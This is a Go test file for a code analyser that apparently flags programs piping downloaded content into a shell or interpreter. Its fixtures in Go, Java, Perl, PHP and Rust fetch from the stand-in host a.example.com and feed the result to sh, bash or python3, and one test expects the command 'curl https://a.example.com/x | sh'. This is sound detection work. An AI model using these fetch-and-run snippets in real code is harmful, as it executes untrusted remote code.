package loose_test

import (
	"slices"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/loose"
	"github.com/skillctl/skillctl/engine/flow/way"
)

// TestFed: an interpreter that is given no code runs what it is fed; another program reads it.
func TestFed(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		language, source string
		want             bool
	}{
		"an input that is set":   {"go", "r, _ := http.Get(\"https://a.example.com/x\")\nc := exec.Command(\"sh\")\nc.Stdin = r.Body\nc.Run()\n", true},
		"a pipe to it":           {"go", "c := exec.Command(\"python3\", \"-\")\nin, _ := c.StdinPipe()\nc.Start()\nr, _ := http.Get(\"https://a.example.com/x\")\nio.Copy(in, r.Body)\n", true},
		"a stream of Java":       {"java", "Process p = new ProcessBuilder(\"bash\").start();\nInputStream in = new URL(\"https://a.example.com/x\").openStream();\nin.transferTo(p.getOutputStream());\n", true},
		"an open pipe of Perl":   {"perl", "my $b = LWP::Simple::get(\"https://a.example.com/x\");\nopen(my $fh, \"|-\", \"sh\");\nprint $fh $b;\n", true},
		"pipes of PHP":           {"php", "<?php\n$b = file_get_contents(\"https://a.example.com/x\");\n$p = proc_open(\"sh\", [[\"pipe\", \"r\"]], $pipes);\nfwrite($pipes[0], $b);\n", true},
		"another program":        {"go", "r, _ := http.Get(\"https://a.example.com/x\")\nc := exec.Command(\"jq\", \".a\")\nc.Stdin = r.Body\nc.Run()\n", false},
		"a script that reads it": {"go", "r, _ := http.Get(\"https://a.example.com/x\")\nc := exec.Command(\"python3\", \"a.py\")\nc.Stdin = r.Body\nc.Run()\n", false},
		"a text of its own":      {"go", "c := exec.Command(\"sh\")\nc.Stdin = strings.NewReader(\"ls\")\nc.Run()\n", false},
	} {
		found := loose.Follow(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
		got := slices.ContainsFunc(found.Chains, func(one way.Chain) bool { return one.Sink.Kind == "run" && one.Sink.Channel == "stdin" })
		if got != c.want {
			t.Errorf("%s: is run: %v, want %v: %+v", name, got, c.want, found.Chains)
		}
	}
}

// TestFormed: a text with places for values is the one with these.
func TestFormed(t *testing.T) {
	t.Parallel()
	const want = "sh -c 'curl https://a.example.com/x | sh'"
	for language, source := range map[string]string{
		"go":   "h := \"a.example.com\"\ns := fmt.Sprintf(\"curl https://%s/x | %s\", h, \"sh\")\nexec.Command(\"sh\", \"-c\", s).Run()\n",
		"rust": "let h = \"a.example.com\";\nlet s = format!(\"curl https://{}/x | sh\", h);\nCommand::new(\"sh\").arg(\"-c\").arg(&s).spawn();\n",
		"java": "String h = \"a.example.com\";\nString s = String.format(\"curl https://%1$s/x | sh\", h);\nnew ProcessBuilder(\"sh\", \"-c\", s).start();\n",
	} {
		found := loose.Follow(way.Text{File: "a", Source: []byte(source), Language: language}, nil)
		if !slices.ContainsFunc(found.Runs, func(r way.Run) bool { return r.Text == want }) {
			t.Errorf("%s: runs %+v, want %q", language, found.Runs, want)
		}
	}
}
